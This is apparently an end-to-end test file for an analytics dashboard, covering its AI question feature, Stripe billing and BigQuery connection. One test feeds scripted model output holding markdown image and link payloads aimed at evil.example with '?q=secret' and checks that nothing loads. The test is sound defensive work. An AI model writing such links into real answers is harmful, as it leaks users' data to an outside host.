import assert from "node:assert/strict";
import { after, test } from "node:test";
import { tables } from "../../../server/migrations/metadata/tables/index.ts";
import {
	type BigQueryStandIn,
	openBigQueryStandIn,
	serviceAccount,
} from "../../../server/test/support/bigquery-stand-in.ts";
import { openScriptedModel, type ScriptedModel } from "../../../server/test/support/scripted-model.ts";
import { sellingEnv } from "../../../server/test/support/selling-site.ts";
import {
	type StripeServer,
	stripeEvent,
	stripeSecret,
	stripeServer,
} from "../../../server/test/support/stripe-server.ts";
import { fill, whole } from "../support/acts.ts";
import { axeFaults } from "../support/axe.ts";
import { openDashboard, sharedDashboard } from "../support/open-dashboard.ts";

let google: BigQueryStandIn;
let model: ScriptedModel;
let stripe: StripeServer;
const service = sharedDashboard(async () => {
	[google, model, stripe] = await Promise.all([openBigQueryStandIn(), openScriptedModel(), stripeServer()]);
	const selling = { ...sellingEnv(stripe, stripeSecret), DEFAULT_PLAN: "growth" };
	return openDashboard({ BIGQUERY_URL: google.url, LLM_BASE_URL: model.url, LLM_MODEL: "scripted", ...selling });
});
after(async () => {
	await google?.close();
	await model?.close();
	await stripe?.close();
});

const sources = { name: "get_sources", given: { period: "7d", page_size: 5 } };
const evil = "![x](https://evil.example/?q=secret) <img src=https://evil.example/> [here](https://evil.example/)";

test("a question is answered with the figures of the API; nothing that a model writes is loaded; it is found again, copied and deleted", async (t) => {
	const { page, context, goto, api } = await service.read(t);
	const evilAsked: string[] = [];
	page.on("request", (request) => request.url().includes("evil") && evilAsked.push(request.url()));
	await goto("/sites/shop/ask");
	model.does([{ call: [sources] }, { say: `Most came **directly**.\n\n- one\n- two\n\n${evil}` }]);
	const field = page.getByRole("textbox", { name: "Your question" });
	await field.fill("Where did visits come from?");
	await field.press("Enter");
	const answer = page.getByRole("article", { name: "Answer" });
	await answer.waitFor();
	await page.getByRole("status").filter({ hasText: "Answer ready." }).waitFor();
	assert.equal(await answer.locator("strong").first().textContent(), "directly");
	assert.equal(await answer.getByText("![x](https://evil.example/?q=secret)").count(), 1);
	assert.equal(await answer.locator("img, a").count(), 0);
	assert.deepEqual(evilAsked, []);
	const { data } = await api("GET /stats/sources", "?site_id=shop&period=7d&page_size=5");
	const table = answer.getByRole("table", { name: "Sources" });
	const first = table.getByRole("row").nth(1);
	assert.equal(await first.getByRole("cell").first().textContent(), whole.format(data[0]?.entrances ?? -1));
	assert.equal(await table.getByRole("row").count(), data.length + 1);
	await page.getByText("99 questions left until").waitFor();

	await context.grantPermissions(["clipboard-read", "clipboard-write"]);
	await goto("/sites/shop/goals");
	await goto("/sites/shop/ask");
	await page.getByRole("button", { name: "Where did visits come from?", exact: true }).click();
	await page.getByText("How this was answered (1)").click();
	await page.getByRole("button", { name: "Copy as MCP call" }).click();
	const copied = await page.evaluate(() => navigator.clipboard.readText());
	assert.deepEqual(JSON.parse(copied).params.arguments, { period: "7d", page_size: 5, site_id: "shop" });
	await page.getByRole("button", { name: "Delete Where did visits come from?" }).click();
	await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
	await page.getByText("No conversations yet.").waitFor();
});

test("in Spanish and on a phone it is the same, and axe finds nothing in an answer", async (t) => {
	const { page } = await service.open(t, "/sites/shop/ask", { width: 390, language: "es", bypassCSP: true });
	model.does([
		{ call: [{ name: "get_overview", given: { period: "7d", granularity: "daily", series: ["entrances"] } }] },
		{ say: "Subieron." },
	]);
	await page.getByRole("textbox", { name: "Tu pregunta" }).fill("¿Cuántas visitas?");
	await page.getByRole("button", { name: "Preguntar", exact: true }).click();
	await page.getByRole("article", { name: "Respuesta" }).waitFor();
	await page.getByRole("table", { name: "Resumen" }).getByRole("rowheader", { name: "Visitas", exact: true }).waitFor();
	for (const colorScheme of ["light", "dark"] as const) {
		await page.emulateMedia({ colorScheme });
		assert.deepEqual(await axeFaults(page), [], colorScheme);
	}
	assert.match(model.asked[0]?.body.messages[0]?.content ?? "", /language with the code es/);
});

test("a model that is away says so, keeps the question and counts nothing; who has used up the month's questions reads until when", async (t) => {
	const { page, goto } = await service.open(t, "/sites/shop/ask", { meetsErrors: true });
	model.does([{ status: 500, body: "" }]);
	const field = page.getByRole("textbox", { name: "Your question" });
	await field.fill("Are you there?");
	await page.getByRole("button", { name: "Ask", exact: true }).click();
	await page.getByRole("alert").filter({ hasText: "model is not responding" }).waitFor();
	assert.equal(await field.inputValue(), "Are you there?");
	await page.getByText("98 questions left until").waitFor();
	await tables(service.app.metadata).updateTable("assistant_usage").set({ questions: 100 }).execute();
	await goto("/sites/shop/ask");
	await page.getByText("No questions left until 30 Nov").waitFor();
	assert.equal(await page.getByRole("button", { name: "Ask", exact: true }).isDisabled(), true);
});

const billing = "/organizations/ann/billing";

test("an owner buys a plan at the provider's page, cancels it and lets it go on; invoices go where they are told", async (t) => {
	const { page, goto } = await service.read(t);
	await page.route("https://*.stripe.example/**", (route) =>
		route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Provider</title>" }),
	);
	await goto(billing);
	const plan = page.getByRole("region", { name: "Plan", exact: true });
	const plans = page.getByRole("region", { name: "Plans" });
	await plans.getByRole("tab", { name: "Yearly" }).click();
	await plans.getByText("equals €899 per month").waitFor();
	await plans.getByRole("tab", { name: "Monthly" }).click();
	await page.getByRole("button", { name: "Choose Growth" }).click();
	const form = page.getByRole("dialog", { name: "Choose Growth" });
	await form.getByText("€599 per month").waitFor();
	await form.getByLabel("Coupon").fill("NOTHING");
	await form.getByRole("button", { name: "Check" }).click();
	await form.locator('[name="coupon_code"][aria-invalid="true"]').waitFor();
	await fill(form, { Coupon: "", Company: "Shop GmbH", Country: "de" });
	await form.getByRole("button", { name: "Continue to payment" }).click();
	await page.waitForURL("https://checkout.stripe.example/price_growth_monthly");
	const [customer = ""] = stripe.customers.keys();

	stripe.subscribe({ customer, startsAt: Date.parse("2026-11-21T12:00:00Z") });
	const created = { id: "evt_1", type: "customer.subscription.created", customer };
	const event = stripeEvent(created, service.app.clock.now());
	const url = "/api/v1/billing/provider-webhook";
	assert.equal((await service.app.inject({ method: "POST", url, ...event })).statusCode, 200);
	await goto(`${billing}?view=bought:yes`);
	await plan.getByText("Active").waitFor();
	await plan.getByText("Renews on Mon, 21 Dec 2026.").waitFor();
	await plan.getByText("visa •••• 4242, valid until 4/2029").waitFor();
	assert.equal(await page.getByRole("button", { name: /^Choose / }).count(), 0);
	const confirm = async (act: string) => {
		await plan.getByRole("button", { name: act }).click();
		await page.getByRole("dialog").getByRole("button", { name: act }).click();
	};
	await confirm("Cancel subscription");
	await plan.getByText("Cancelled. The plan ends on Mon, 21 Dec 2026 and changes to Free.").waitFor();
	await confirm("Resume subscription");
	await plan.getByText("Renews on Mon, 21 Dec 2026.").waitFor();
	await page.getByLabel("Accounting email").fill("books@example.com");
	await page.getByRole("button", { name: "Save" }).click();
	await page.getByText("Invoices go to books@example.com.").waitFor();
	await plan.getByRole("button", { name: "Payment and invoices" }).click();
	await page.waitForURL("https://portal.stripe.example/**");
});

const bigquery = "/sites/shop/settings/bigquery";
const key = { name: "key.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(serviceAccount)) };

test("a site is connected to BigQuery once Google takes its key; what it says of another one stands in the form, which stays", async (t) => {
	const { page } = await service.open(t, bigquery, { meetsErrors: true });
	const file = page.getByLabel("Service account key file").last();
	await file.setInputFiles({ ...key, buffer: Buffer.from("{}") });
	await page.getByText("This is not a service account JSON key.").waitFor();
	const stranger = { ...serviceAccount, client_email: "other@shop-project.iam.gserviceaccount.com" };
	await page.locator("summary", { hasText: "Or paste its contents" }).click();
	await page.getByRole("textbox", { name: "Or paste its contents" }).fill(JSON.stringify(stranger));
	await page.getByText(`Key of ${stranger.client_email}`).waitFor();
	await page.getByLabel("Days to backfill").fill("6");
	await page.getByRole("button", { name: "Connect", exact: true }).click();
	await page
		.getByText(/Invalid JWT Signature/)
		.first()
		.waitFor();
	await file.setInputFiles(key);
	await page.getByText(`Key of ${serviceAccount.client_email}`).waitFor();
	assert.equal(await page.getByLabel("Project").inputValue(), "shop-project");
	assert.equal(await page.getByLabel("Days to backfill").inputValue(), "6");
	await page.getByRole("button", { name: "Connect", exact: true }).click();
	await page.getByText(/7 tables in shop-project\.footfall/).waitFor();
	const newest = page.getByRole("list", { name: "Syncs" }).getByRole("listitem").first();
	await newest.getByText("running").waitFor();
	await service.app.jobs.runDue();
	await newest.getByText("done").waitFor();
});
